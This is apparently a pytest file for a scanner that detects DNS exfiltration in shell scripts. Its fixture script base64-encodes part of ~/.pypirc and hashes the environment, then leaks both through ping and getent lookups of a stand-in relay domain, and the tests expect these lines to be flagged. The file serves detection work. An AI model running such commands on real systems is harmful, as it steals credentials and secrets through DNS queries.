"""Tools that resolve the name they are given before doing anything else (ping, getent, traceroute)
leak what is in the name to whoever runs its zone, like dig and nslookup."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_secret_data_in_a_name_pinged_or_resolved_by_getent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/net.sh": "#!/bin/sh\n"
            "part=$(base64 -w0 < ~/.pypirc | cut -c1-40)\n"
            'ping -c 1 -W 1 "$part.n.lookup-relay.invalid"\n'
            'getent ahosts "$(printenv | md5sum | cut -c1-16).n.lookup-relay.invalid"\n'
        },
    )
    assert errors == {("DNS_EXFILTRATION", "scripts/net.sh", 3), ("DNS_EXFILTRATION", "scripts/net.sh", 4)}


def test_hosts_from_settings_and_the_machines_own_name_are_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/net.sh": '#!/bin/sh\nping -c1 "$DB_HOST"\ntraceroute "${API_HOST:-api.example.org}"\n'
            'getent hosts "$(hostname)"\n'
        },
    )
    assert not errors
